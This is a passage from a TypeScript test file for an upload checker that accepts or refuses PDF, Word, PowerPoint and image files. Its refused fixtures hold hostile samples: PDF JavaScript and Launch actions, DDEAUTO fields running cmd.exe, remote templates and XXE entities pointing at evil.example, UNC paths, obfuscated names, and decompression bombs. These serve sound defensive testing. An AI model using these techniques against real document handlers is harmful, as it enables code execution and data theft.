import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { deflateSync } from 'node:zlib';
import { CHECK_WORKER } from '../../../test/support/check-worker.js';
import {
  lockedDocx,
  packedPdfObjects,
  pptRecord,
  sampleDoc,
  sampleDocx,
  sampleJpeg,
  samplePdf,
  samplePdfOfSize,
  samplePng,
  samplePpt,
  sampleXls,
  sampleZip,
} from '../../../test/support/files/sample-files.js';
import type { AppError } from '../../common/errors/app-error.js';
import type { FileReason } from '../../common/errors/file-reasons.js';
import { AppLogger } from '../../common/logging/app-logger.js';
import { AppConfig, type AppConfigValues } from '../../config/app-config.js';
import { APPLICATION_DOCUMENT } from '../../factory-applications/application-document.js';
import { ID_PROOF } from '../../shareholders/id-proof.js';
import type { SpooledFile } from '../upload/spooled-file.js';
import { DocumentChecker } from './document-checker.js';
import { VirusScanner } from './virus-scanner.js';

const MB = 1024 * 1024;

function fileOf(name: string, bytes: Buffer): SpooledFile {
  return {
    field: 'document',
    name,
    size: bytes.length,
    sha256: '',
    dataKey: Buffer.alloc(32),
    openEncrypted: () => {
      throw new Error('not needed');
    },
    openPlain: () => Readable.from([bytes], { objectMode: false }),
  };
}

const config = new AppConfig({ checkWorker: CHECK_WORKER } as AppConfigValues);
const logger = new AppLogger('silent');
const checker = new DocumentChecker(config, logger, new VirusScanner(config, logger));
afterAll(() => checker.onApplicationShutdown());

function check(name: string, bytes: Buffer, kind = APPLICATION_DOCUMENT) {
  return checker.check(fileOf(name, bytes), kind);
}

/** The reason code for each message. */
const REASON_OF: ReadonlyArray<readonly [says: string, reason: FileReason]> = [
  ['This type of file', 'type'],
  ['something else', 'content'],
  ['not a Word document', 'content'],
  ['but is a .', 'content'],
  ['newer format', 'newer-format'],
  ['empty', 'empty'],
  ['password', 'locked'],
  ['macros', 'macros'],
  ['scripts', 'active-content'],
  ['hidden from a check', 'active-content'],
  ['too complicated', 'too-complex'],
  ['active controls', 'active-content'],
  ['template', 'active-content'],
  ['attached', 'attachments'],
  ['packed inside', 'attachments'],
  ['A second file', 'second-file'],
  ['large size', 'unpacks-huge'],
  ['too large', 'too-many-pixels'],
  ['too small', 'too-few-pixels'],
  ['damaged', 'damaged'],
];

async function refusal(
  name: string,
  bytes: Buffer,
  kind = APPLICATION_DOCUMENT,
): Promise<{ status: number; sentence: string }> {
  const error = await check(name, bytes, kind).then(
    () => undefined,
    (thrown: AppError) => thrown,
  );
  if (!error) throw new Error(`${name} was accepted`);
  expect(error.fields).toEqual({ document: [error.message] });
  const reason = REASON_OF.find(([says]) => error.message.includes(says))?.[1];
  expect(error.reasons).toEqual({ document: reason });
  return { status: error.status, sentence: error.message };
}

/** The same compound file with a loop in the directory's chain. */
function withLoop(file: Buffer): Buffer {
  const looped = Buffer.from(file);
  const directory = looped.readUInt32LE(48);
  const fat = (looped.readUInt32LE(76) + 1) * 512;
  looped.writeUInt32LE(directory, fat + 4 * directory);
  return looped;
}

describe('an accepted file', () => {
  it.each([
    ['plan.pdf', samplePdf(), 'pdf', 'application/pdf'],
    ['PLAN.PDF', samplePdf(), 'pdf', 'application/pdf'],
    ['large.pdf', samplePdfOfSize(2 * MB), 'pdf', 'application/pdf'],
    [
      'packed.pdf',
      samplePdf({ objects: packedPdfObjects('6 0 << /Type /Font >>') }),
      'pdf',
      'application/pdf',
    ],
    [
      'words.pdf',
      samplePdf({ objects: '4 0 obj\n<< /Title (Why /JS and /Encrypt \\) matter) >>\nendobj' }),
      'pdf',
      'application/pdf',
    ],
    [
      'noise.pdf',
      samplePdf({ objects: '4 0 obj\n<< /Length 9 >>\nstream\n/JS /AA \nendstream\nendobj' }),
      'pdf',
      'application/pdf',
    ],
    [
      'blanks-behind-a-comment.pdf',
      samplePdf({ objects: `%${'>>%'.repeat(300_000)}\n${' '.repeat(MB)}` }),
      'pdf',
      'application/pdf',
    ],
    ['plan.doc', sampleDoc(), 'doc', 'application/msword'],
    ['pieces.doc', sampleDoc(inPieces('Dear \x13PAGE\x14\x15 all')), 'doc', 'application/msword'],
    ['plan.ppt', samplePpt(), 'ppt', 'application/vnd.ms-powerpoint'],
    [
      'plan.docx',
      sampleDocx(),
      'docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    [
      'long.docx',
      sampleDocx({ 'word/document.xml': Buffer.alloc(4 * MB, '<w:p/>') }),
      'docx',
      expect.any(String),
    ],
  ])('%s', async (name, bytes, type, contentType) => {
    await expect(check(name, bytes)).resolves.toEqual({ type, contentType });
  });

  it.each([
    ['picture.jpg', sampleJpeg(1200, 800), 'jpg'],
    ['picture.jpeg', sampleJpeg(1200, 800), 'jpg'],
    ['picture.png', samplePng(1200, 800), 'png'],
  ])('%s where pictures are accepted', async (name, bytes, type) => {
    await expect(check(name, bytes, ID_PROOF)).resolves.toMatchObject({ type });
  });
});

/** The README in that folder describes each file and the program that wrote it. */
const WRITTEN_BY_PROGRAMS = path.join(import.meta.dirname, '../../../test/documents');

it.each(readdirSync(WRITTEN_BY_PROGRAMS).filter((name) => !name.endsWith('.md')))(
  '%s is accepted as the program wrote it',
  async (name) => {
    const bytes = readFileSync(path.join(WRITTEN_BY_PROGRAMS, name));
    const kind = { ...ID_PROOF, extensions: [...APPLICATION_DOCUMENT.extensions, ...ID_PROOF.extensions] };
    await expect(check(name, bytes, kind)).resolves.toMatchObject({ type: path.extname(name).slice(1) });
  },
);

describe('a file of another type is refused with 415', () => {
  const rename = 'rename it to .docx';
  it.each([
    ['plan.exe', samplePdf(), 'PDF, DOC, PPT or DOCX'],
    ['plan', samplePdf(), 'PDF, DOC, PPT or DOCX'],
    ['plan.pdf.html', samplePdf(), 'PDF, DOC, PPT or DOCX'],
    ['picture.png', samplePng(100, 100), 'PDF, DOC, PPT or DOCX'],
    ['plan.pdf', Buffer.from('<html><script>alert(1)</script>'), 'something else'],
    ['plan.pdf', sampleDocx(), 'something else'],
    ['plan.docx', samplePdf(), 'something else'],
    ['plan.doc', sampleDocx(), rename],
    ['slides.ppt', sampleZip({ 'ppt/presentation.xml': 'x' }), 'save it as PDF'],
    ['plan.doc', samplePpt(), 'is a .ppt file'],
    ['plan.ppt', sampleDoc(), 'is a .doc file'],
    ['plan.docx', sampleDoc(), 'is a .doc file'],
    ['plan.doc', sampleXls(), 'something else'],
    ['plan.docx', sampleZip({ 'readme.txt': 'hello' }), 'not a Word document'],
    [
      'sheet.docx',
      sampleDocx({}, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      'not a Word document',
    ],
    ['both.pdf', Buffer.concat([samplePdf(), sampleZip({ 'a.class': 'x' })]), 'second file'],
    ['both.docx', Buffer.concat([Buffer.from('PK\x03\x04 %PDF-1.4 '), sampleDocx()]), 'second file'],
  ])('%s: %#', async (name, bytes, says) => {
    await expect(refusal(name, bytes)).resolves.toEqual({
      status: 415,
      sentence: expect.stringContaining(says),
    });
  });
});

/** Start, separator or end of a field. */
function mark(type: string): string {
  return `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
}

/** A field as Word writes it, with its instruction split into runs. */
function inField(...runs: string[]): string {
  // A nested field is placed beside the text of the instruction.
  const text = runs.map((run) =>
    run.startsWith('<') || run.includes('<w:r>')
      ? run.replace(/^[^<]+|[^>]+$/g, (part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`)
      : `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`,
  );
  return `${mark('begin')}${text.join('')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}`;
}

function inDocument(content: string): Buffer {
  return sampleDocx({ 'word/document.xml': `<w:document><w:body>${content}</w:body></w:document>` });
}

/** Deflates a part so that its first chunk is a single byte: 64 KiB of empty blocks precede it. */
function deflatedAfterEmptyBlocks(plain: Buffer): Buffer {
  const block = (content: Buffer, isLast = false): Buffer => {
    const head = Buffer.from([isLast ? 1 : 0, 0, 0, 0, 0]);
    head.writeUInt16LE(content.length, 1);
    head.writeUInt16LE(content.length ^ 0xffff, 3);
    return Buffer.concat([head, content]);
  };
  const emptyBlocks = Array.from({ length: 13_106 }, () => block(Buffer.alloc(0)));
  return Buffer.concat([...emptyBlocks, block(plain.subarray(0, 1)), block(plain.subarray(1), true)]);
}

const withField = (...runs: string[]) => inDocument(inField(...runs));

/** A field with some XML before its instruction. */
function withMark(before: string, instruction = 'DDE cmd'): Buffer {
  return inDocument(inField(instruction).replace('<w:instrText', `${before}<w:instrText`));
}

/** The streams of a .doc with this text. */
function inOldText(text: string, encoding: BufferEncoding = 'latin1'): Record<string, Buffer> {
  const stream = Buffer.alloc(4096);
  stream.writeUInt16LE(0xa5ec, 0);
  stream.writeUInt16LE(0x00c1, 2);
  stream.write(text, 2048, encoding);
  return { WordDocument: stream };
}

/** The streams of a .doc whose text is in pieces of one character each, with other bytes between them. */
function inPieces(text: string): Record<string, Buffer> {
  const stream = Buffer.alloc(8192, '-');
  sampleHeader().copy(stream);
  const clx = Buffer.alloc(5 + 4 + 12 * text.length);
  clx.writeUInt8(2, 0);
  clx.writeUInt32LE(clx.length - 5, 1);
  [...text].forEach((character, n) => {
    const at = 2048 + 8 * n;
    stream.write(character, at, 'latin1');
    clx.writeUInt32LE(n + 1, 5 + 4 * (n + 1));
    clx.writeUInt32LE((2 * at) | 0x40000000, 5 + 4 * (text.length + 1) + 8 * n + 2);
  });
  stream.writeUInt32LE(100, 0x01a2);
  stream.writeUInt32LE(clx.length, 0x01a6);
  return { WordDocument: stream, '0Table': Buffer.concat([Buffer.alloc(100), clx, Buffer.alloc(4096)]) };
}

/** The header of a .doc. */
function sampleHeader(): Buffer {
  const header = Buffer.alloc(1024);
  header.writeUInt16LE(0xa5ec, 0);
  header.writeUInt16LE(0x00c1, 2);
  header.writeUInt16LE(14, 0x20);
  header.writeUInt16LE(22, 0x3e);
  return header;
}

/** A picture with a second header that states another size. */
function withSecondHeader(png: Buffer): Buffer {
  const header = Buffer.from(png.subarray(8, 33));
  header.writeUInt32BE(60_000, 8);
  return Buffer.concat([png.subarray(0, 33), header, png.subarray(33)]);
}

it.each([
  ['the table of a chart', { 'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'PK' }],
  [
    'parts that declare their encoding',
    {
      'word/header1.xml': '<?xml version="1.0" encoding="utf-8" standalone="yes"?><w:hdr/>',
      'customXml/item1.xml': "<?xml version='1.0' encoding='windows-1252'?><a/>",
      'customXml/_rels/item1.xml.rels': '<?xml version="1.0" encoding="US-ASCII"?><Relationships/>',
    },
  ],
  [
    'links, pictures from outside and the writer’s own template',
    {
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/>' +
        '<Relationship Type="http://x/image" Target="https://example.org/a.png" TargetMode="External"/>' +
        '<Relationship Type="http://x/image" Target="file:///C:\\Users\\Asha\\a.png" TargetMode="External"/>' +
        '<Relationship Type="http://x/styles" Target="styles.xml"/></Relationships>',
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Type="http://x/attachedTemplate" Target="file:///C:\\Users\\Asha\\Normal.dotm" TargetMode="External"/></Relationships>',
    },
  ],
  [
    'fields that stay in the document, and a picture from the web',
    {
      'word/document.xml': `<w:document>${[
        'TOC \\o "1-3"',
        'PAGE \\* MERGEFORMAT',
        'HYPERLINK "https://example.org/a?b=DDE"',
        'INCLUDEPICTURE "https://example.org/a.png" \\* MERGEFORMATINET',
        `IF ${inField('PAGE')} = 1 "DDE" "LINK"`,
      ]
        .map((instruction) => inField(instruction))
        .join('')}<w:t>DDEAUTO LINK</w:t></w:document>`,
    },
  ],
  [
    'a page number in a text box, with alternatives for newer and older programs',
    {
      'word/footer1.xml': `<w:ftr>${inField(
        `IF ${inField('PAGE')} = 1 "a" "b"`,
      )}<w:r><mc:AlternateContent><mc:Choice Requires="wps"><wps:txbx>${inField('PAGE')}</wps:txbx></mc:Choice><mc:Fallback><v:textbox>${inField('PAGE')}</v:textbox></mc:Fallback></mc:AlternateContent></w:r></w:ftr>`,
    },
  ],
  [
    'the number of a formula, in formula runs',
    {
      'word/document.xml': `<w:document xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:oMath>${inField('SEQ Formula').replace(/(<\/?)w:r>/g, '$1m:r>')}</m:oMath></w:document>`,
    },
  ],
  [
    'a picture written by CorelDRAW',
    {
      'word/media/image2.svg':
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Creator: CorelDRAW -->\n<svg xmlns="http://www.w3.org/2000/svg"><style type="text/css"><![CDATA[ .fil0 {fill:#E31E24} g>path{} ]]></style></svg>',
    },
  ],
  [
    'a picture written by Graphviz',
    {
      'word/media/image2.svg':
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- What the writer\'s program says -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>',
    },
  ],
])('a Word document with %s is accepted', async (_what, parts) => {
  await expect(check('plan.docx', sampleDocx(parts))).resolves.not.toThrow();
});

/** Objects with a script in a stream compressed as `how` says. */
function hiddenObjects(
  how = '/Filter /FlateDecode',
  pack: (data: Buffer) => Buffer | string = (data) => data,
  type = '/Type /ObjStm',
): Buffer {
  const data = Buffer.from(pack(deflateSync('6 0 << /S /JavaScript /JS (x) >>')));
  const head = `5 0 obj\n<< ${type} /N 1 /First 4 ${how} /Length ${data.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), data, Buffer.from('\nendstream\nendobj')]);
}

function hiddenScript(...args: Parameters<typeof hiddenObjects>): Buffer {
  return samplePdf({ objects: hiddenObjects(...args) });
}

const SETTINGS = 'word/_rels/settings.xml.rels';
const REMOTE = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"';

/** A part whose field exists only for a program that reads UTF-7. */
function inUtf7(element: string): string {
  return `<?xml version="1.0" encoding="UTF-7"?><${element}>+ADw-w:instrText+AD4-DDE cmd</${element}>`;
}

function relation(attributes: string): Buffer {
  return sampleDocx({ [SETTINGS]: `<Relationships><Relationship ${attributes}/></Relationships>` });
}

describe('a file that must be saved differently is refused with 400', () => {
  const macroInfo = pptRecord(
    0x0f,
    0x03ff,
    pptRecord(0x02, 0x0400, Buffer.from('010000000100000002000000', 'hex')),
  );
  const withRemoteTemplate = {
    'word/_rels/settings.xml.rels':
      '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
  };

  const relating = (type: string, target: string, mode = 'External', list = 'document') => ({
    [`word/_rels/${list}.xml.rels`]: `<Relationships><Relationship Id='r1' Type="http://x/${type}" Target='${target}' TargetMode="${mode}"/></Relationships>`,
  });

  const refused: [string, Buffer, string][] = [
    ['empty.pdf', Buffer.alloc(0), 'empty'],
    ['cut.pdf', samplePdf().subarray(0, 150), 'damaged'],
    ['locked.pdf', samplePdf({ trailer: '/Encrypt 9 0 R' }), 'password'],
    ['disguised-lock.pdf', samplePdf({ trailer: '/Enc#72ypt 9 0 R' }), 'password'],
    [
      'script.pdf',
      samplePdf({ objects: '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj' }),
      'scripts',
    ],
    ['disguised.pdf', samplePdf({ objects: '4 0 obj\n<< /S /J#61vaScript /JS (x) >>\nendobj' }), 'scripts'],
    [
      'packed-script.pdf',
      samplePdf({ objects: packedPdfObjects('6 0 << /S /JavaScript /JS (x) >>') }),
      'scripts',
    ],
    ['launch.pdf', samplePdf({ objects: '4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj' }), 'scripts'],
    [
      'attached.pdf',
      samplePdf({ objects: '4 0 obj\n<< /Type /EmbeddedFile >>\nstream\nx\nendstream\nendobj' }),
      'attached',
    ],
    [
      'two-filters.pdf',
      hiddenScript('/Filter [/ASCIIHexDecode /FlateDecode]', (data) => `${data.toString('hex')}>`),
      'hidden',
    ],
    ['one-other-filter.pdf', hiddenScript('/Filter /LZWDecode'), 'hidden'],
    ['filter-elsewhere.pdf', hiddenScript('/Filter 7 0 R'), 'hidden'],
    ['filter-elsewhere-in-list.pdf', hiddenScript('/Filter [7 0 R]'), 'hidden'],
    ['two-lists.pdf', hiddenScript('/Filter /FlateDecode /Filter [/ASCIIHexDecode]'), 'hidden'],
    ['predictor.pdf', hiddenScript('/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'), 'hidden'],
    ['parameters-elsewhere.pdf', hiddenScript('/Filter /FlateDecode /DecodeParms 7 0 R'), 'hidden'],
    ['short-parameters.pdf', hiddenScript('/Filter /FlateDecode /D#50 7 0 R'), 'hidden'],
    ['type-elsewhere.pdf', hiddenScript('/Filter /FlateDecode', undefined, '/Type 7 0 R'), 'scripts'],
    ['no-type.pdf', hiddenScript('/Filter /FlateDecode', undefined, ''), 'scripts'],
    ['disguised-type.pdf', hiddenScript('/Filter /FlateDecode', undefined, '/Type /Obj#53tm'), 'scripts'],
    ['hyphen.pdf', samplePdf({ objects: '4 0 obj\n<< /S -/J#61vaScript /JS (x) >>\nendobj' }), 'scripts'],
    [
      'in-a-string.pdf',
      samplePdf({ objects: '4 0 obj\n( 9 0 obj << /S /J#61vaScript /J#53 <78> >> endobj )\nendobj' }),
      'scripts',
    ],
    [
      'in-a-comment.pdf',
      samplePdf({ objects: '4 0 obj\n% 9 0 obj << /S /Ren#64ition /J#53 <78> >> endobj\n1\nendobj' }),
      'scripts',
    ],
    [
      'packed-in-a-string.pdf',
      samplePdf({
        objects: Buffer.concat([Buffer.from('4 0 obj\n('), hiddenObjects(), Buffer.from(')\nendobj')]),
      }),
      'hidden',
    ],
    [
      'stream-in-a-stream.pdf',
      samplePdf({ objects: '4 0 obj\n<< >>\nstream\n<< /N 1 /First 4 >> %x\nstream\nx\nendstream\nendobj' }),
      'hidden',
    ],
    [
      'object-in-an-object.pdf',
      samplePdf({ objects: '4 0 obj\n<< /Type /ObjStm 5 0 obj /N 1 >>\nstream\nx\nendstream\nendobj' }),
      'damaged',
    ],
    ['escapes.pdf', samplePdf({ objects: Buffer.alloc(4 * MB, '/#61#62') }), 'large size'],
    ['bomb.pdf', samplePdf({ objects: packedPdfObjects(Buffer.alloc(20 * MB)) }), 'large size'],
    ['elsewhere.pdf', samplePdf({ objects: '4 0 obj\n<< /S /GoToE /F (a) >>\nendobj' }), 'active content'],
    ['sent.pdf', samplePdf({ objects: '4 0 obj\n<< /S /Submit#46orm /F (a) >>\nendobj' }), 'active content'],
    ['names.pdf', samplePdf({ objects: Buffer.alloc(2 * MB, '/a') }), 'large size'],
    ['loop.doc', withLoop(sampleDoc()), 'damaged'],
    ['locked.doc', sampleDoc({}, 0x0100), 'password'],
    ['macro.doc', sampleDoc({ 'Macros/VBA/_VBA_PROJECT': Buffer.from('x') }), 'macros'],
    ['packed.doc', sampleDoc({ 'ObjectPool/_1/\u0001Ole10Native': Buffer.from('x') }), 'packed inside'],
    ['cut.doc', sampleDoc().subarray(0, 700), 'damaged'],
    ['program.doc', sampleDoc(inOldText('\x13 DDEAUTO c:\\\\a.exe \x14')), 'from another place'],
    ['program-in-utf16.doc', sampleDoc(inOldText('\x13dde cmd\x15', 'utf16le')), 'from another place'],
    ['program-in-pieces.doc', sampleDoc(inPieces('Dear \x13DDEAUTO cmd\x14\x15')), 'from another place'],
    ['pieces-elsewhere.doc', sampleDoc({ ...inPieces('Dear'), '0Table': Buffer.alloc(4096) }), 'damaged'],
    ['locked.ppt', samplePpt({ encrypted: true }), 'password'],
    ['macro.ppt', samplePpt({ records: pptRecord(0x0f, 0x07d0, macroInfo) }), 'macros'],
    ['locked.docx', lockedDocx(), 'password'],
    ['locked-parts.docx', sampleZip({ 'word/document.xml': 'x' }, { encrypted: true }), 'password'],
    ['macro.docx', sampleDocx({ 'word/vbaProject.bin': 'x' }), 'macros'],
    ['renamed-docm.docx', sampleDocx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'macros'],
    ['program-field.docx', withField('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), 'from another place'],
    ['split-program.docx', withField('D', 'DEA', 'UTO cmd'), 'from another place'],
    ['spelt-program.docx', withField('&#68;&#x44;E cmd'), 'from another place'],
    ['program-after-field.docx', withField(`${inField('QUOTE 68')}DE cmd`), 'from another place'],
    ['simple-field.docx', inDocument("<v:fldSimple v:instr='DDEAUTO cmd'/>"), 'from another place'],
    ['open-field.docx', inDocument('<w:instrText>INCLUDETEXT a</w:instrText>'), 'from another place'],
    [
      'header-field.docx',
      sampleDocx({ 'word/header1.xml': `<w:hdr>${inField('IMPORT a')}</w:hdr>` }),
      'from another place',
    ],
    [
      'picture-field.docx',
      withField('INCLUDEPICTURE "\\\\\\\\evil\\\\s\\\\a.png" \\d'),
      'from another place',
    ],
    ['picture-of-a-field.docx', withField(`INCLUDEPICTURE ${inField('QUOTE 92')}`), 'from another place'],
    ['mark-in-a-comment.docx', withMark('<!--x:fldChar w:fldCharType="separate"-->'), 'from another place'],
    ['mark-in-a-note.docx', withMark('<?x:fldChar w:fldCharType="separate"?>'), 'from another place'],
    ['quote-in-a-note.docx', inDocument(`<?x '?>${inField('DDE cmd')}<?x '?>`), 'from another place'],
    ['quoted.docx', inDocument('<w:fldSimple x:a=\' w:instr="PAGE"\' w:instr="DDE cmd"/>'), 'another place'],
    ['two-instructions.docx', inDocument('<w:fldSimple x:instr="PAGE" w:instr="DDE cmd"/>'), 'damaged'],
    ['mark-of-others.docx', withMark(`<x:a>${mark('separate')}</x:a>`), 'damaged'],
    ['mark-twice.docx', withMark(mark('separate')), 'damaged'],
    ['end-of-others.docx', withMark(`<x:a>${mark('begin')}</x:a>`, 'PAGE'), 'another place'],
    ['text-of-others.docx', withMark('<x:a><w:instrText>X</w:instrText></x:a>'), 'damaged'],
    ['other-text.docx', withMark('<x:instrText>X</x:instrText>'), 'damaged'],
    ['text-in-text.docx', withField('DD<x:a>X</x:a>E cmd'), 'damaged'],
    [
      'no-formula.docx',
      sampleDocx({
        'word/document.xml': `<w:document xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:a xmlns:m="urn:x">${mark('begin')}<w:instrText>X</w:instrText></m:a><w:instrText>DDE cmd</w:instrText>${mark('end')}</w:document>`,
      }),
      'damaged',
    ],
    [
      'same-prefix.docx',
      sampleDocx({
        'word/document.xml': `<w:document xmlns:w="urn:a">${mark('begin')}<w:instrText xmlns:w="urn:b">X</w:instrText><w:instrText>DDE cmd</w:instrText>${mark('end')}</w:document>`,
      }),
      'damaged',
    ],
    ['hidden-field.docx', inDocument('<w:instrText><![CDATA[DDE cmd]]></w:instrText>'), 'damaged'],
    ['long-field.docx', withField('A'.repeat(70_000)), 'damaged'],
    ['long-tag.docx', inDocument(`<a b="${'<'.repeat(2 * MB)}`), 'damaged'],
    ['deep-fields.docx', inDocument('<w:fldChar w:fldCharType="begin"/>'.repeat(200)), 'another place'],
    ['utf16-part.docx', sampleDocx({ 'word/document.xml': Buffer.from('<x/>', 'utf16le') }), 'damaged'],
    [
      'byte-by-byte.docx',
      sampleDocx({ 'word/document.xml': `\ufeff<w:document>${inField('DDE cmd')}</w:document>` }, undefined, {
        pack: deflatedAfterEmptyBlocks,
      }),
      'from another place',
    ],
    ['utf7-part.docx', sampleDocx({ 'word/document.xml': inUtf7('w:document') }), 'damaged'],
    ['utf7-list.docx', sampleDocx({ [SETTINGS]: inUtf7('Relationships') }), 'damaged'],
    [
      'utf7-behind-blanks.docx',
      sampleDocx({
        'word/document.xml': inUtf7('w:document').replace('<?xml ', `<?xml ${' '.repeat(5_000)}`),
      }),
      'damaged',
    ],
    ['ebcdic-part.docx', sampleDocx({ 'word/document.xml': Buffer.from('4c6fa7949340', 'hex') }), 'damaged'],
    [
      'utf32-part.docx',
      sampleDocx({ 'word/document.xml': Buffer.from('0000003c0000003f', 'hex') }),
      'damaged',
    ],
    [
      'second-name.docx',
      sampleDocx({ [SETTINGS]: `<Relationships><Relationship ${REMOTE}/></Relationships>` }, undefined, {
        unicodeNames: { [SETTINGS]: 'word/media/image1.png' },
      }),
      'damaged',
    ],
    ['controls.docx', sampleDocx({ 'word/activeX/activeX1.xml': 'x' }), 'active controls'],
    ['template.docx', sampleDocx(withRemoteTemplate), 'template'],
    [
      'other-case.docx',
      sampleDocx(relating('attachedTemplate', 'http://evil.example/t.dotm', 'External', 'Settings')),
      'template',
    ],
    ['unc.docx', sampleDocx(relating('attachedTemplate', '\\\\evil\\t.dotm')), 'template'],
    ['picture-elsewhere.docx', sampleDocx(relating('image', '\\\\evil\\a.png')), 'from another place'],
    ['picture-by-file.docx', sampleDocx(relating('image', 'file://evil/a.png')), 'from another place'],
    ['entity.docx', sampleDocx(relating('attachedTemplate', '&#104;ttp:evil')), 'template'],
    ['object.docx', sampleDocx(relating('oleObject', 'mhtml:http://evil.example/x.html')), 'template'],
    ['program.docx', sampleDocx({ 'word/embeddings/evil.exe': 'MZ' }), 'packed inside'],
    ['object-bin.docx', sampleDocx({ 'word/embeddings/oleObject1.bin': 'x' }), 'packed inside'],
    ['elsewhere.docx', sampleDocx(relating('package', '../media/evil.exe', 'Internal')), 'packed inside'],
    ['chunk.docx', sampleDocx(relating('aFChunk', '/word/chunk.rtf', 'Internal')), 'packed inside'],
    ['document-chunk.docx', sampleDocx(relating('aFChunk', '/word/a.docx', 'Internal')), 'packed inside'],
    ['control-elsewhere.docx', sampleDocx(relating('control', 'media/a.xml', 'Internal')), 'active controls'],
    ['sign-in-id.docx', relation(`Id="r>1" ${REMOTE}`), 'template'],
    ['mode-as-reference.docx', relation(REMOTE.replace('"External', '"&#69;xternal')), 'template'],
    ['mode-with-blanks.docx', relation(REMOTE.replace('"External', '" External ')), 'template'],
    ['unknown-mode.docx', relation(REMOTE.replace('External', 'Elsewhere')), 'damaged'],
    [
      'hyphen-in-prefix.docx',
      sampleDocx({
        [SETTINGS]: `<a-b:Relationships xmlns:a-b="x"><a-b:Relationship ${REMOTE}/></a-b:Relationships>`,
      }),
      'template',
    ],
    ['other-template.docx', relation(REMOTE.replace('http:', '&#x68;ttp:')), 'template'],
    [
      'own-entity.docx',
      sampleDocx({
        [SETTINGS]: `<!DOCTYPE x [<!ENTITY e "External">]><Relationships><Relationship ${REMOTE.replace('External', '&e;')}/></Relationships>`,
      }),
      'damaged',
    ],
    [
      'entity-in-a-part.docx',
      sampleDocx({
        'word/settings.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/">]><x>&e;</x>',
      }),
      'damaged',
    ],
    [
      'entity-in-a-picture.docx',
      sampleDocx({
        'word/media/a.svg':
          '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd" [<!ENTITY e SYSTEM "http://evil.example/">]><svg>&e;</svg>',
      }),
      'damaged',
    ],
    [
      'picture-declared-elsewhere.docx',
      sampleDocx({
        'word/media/a.svg':
          '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/www.w3.org/svg11.dtd"><svg/>',
      }),
      'damaged',
    ],
    [
      'escaped-name.docx',
      sampleDocx({
        'word/_rels/settings.xml%2Erels': `<Relationships><Relationship ${REMOTE}/></Relationships>`,
      }),
      'template',
    ],
    [
      'disguised-docm.docx',
      sampleDocx({}, 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
      'macros',
    ],
    ['deep.docx', sampleDocx({ [SETTINGS]: '<a>'.repeat(40_000) }), 'damaged'],
    [
      'wide.docx',
      sampleDocx({ [SETTINGS]: `<a ${Array.from({ length: 9_000 }, (_, n) => `b${n}="1"`).join(' ')}/>` }),
      'damaged',
    ],
    ['repeated.docx', sampleDocx({ [SETTINGS]: '<Relationship '.repeat(18_000) }), 'damaged'],
    [
      'long-list.docx',
      sampleDocx({ [SETTINGS]: `<Relationships>${' '.repeat(300_000)}</Relationships>` }),
      'damaged',
    ],
    ['utf16.docx', sampleDocx({ 'word/_rels/document.xml.rels': Buffer.from('<x/>', 'utf16le') }), 'damaged'],
    ['bomb.docx', sampleDocx({ 'word/media/a.bmp': Buffer.alloc(60 * MB) }), 'large size'],
    [
      'many.docx',
      sampleDocx(Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`word/${n}.xml`, 'x']))),
      'large size',
    ],
    [
      'liar.docx',
      sampleZip({ '[Content_Types].xml': 'x'.repeat(MB), 'word/document.xml': 'y' }, { claimedSize: 10 }),
      'damaged',
    ],
    ['cut.docx', sampleDocx().subarray(0, 300), 'damaged'],
  ];

  it.each(refused)('%s', async (name, bytes, says) => {
    await expect(refusal(name, bytes)).resolves.toEqual({
      status: 400,
      sentence: expect.stringContaining(says),
    });
  });

  it.each([
    ['huge.png', samplePng(30_000, 30_000), '30000 × 30000'],
    ['wide.png', samplePng(16_000, 16_000), 'too large'],
    ['huge.jpg', sampleJpeg(30_000, 30_000), '30000 × 30000'],
    ['two-headers.png', withSecondHeader(samplePng(800, 600)), 'damaged'],
    ['dot.png', samplePng(1, 1), 'too small'],
    ['cut.png', samplePng(800, 600).subarray(0, 40), 'damaged'],
    ['cut.jpg', sampleJpeg(800, 600).subarray(0, 50), 'damaged'],
    ['headless.jpg', Buffer.from('ffd8ffe00002ffd9', 'hex'), 'damaged'],
  ])('%s where pictures are accepted', async (name, bytes, says) => {
    await expect(refusal(name, bytes, ID_PROOF)).resolves.toEqual({
      status: 400,
      sentence: expect.stringContaining(says),
    });
  });
});

describe('a damaged file', () => {
  const originals: [string, Buffer][] = [
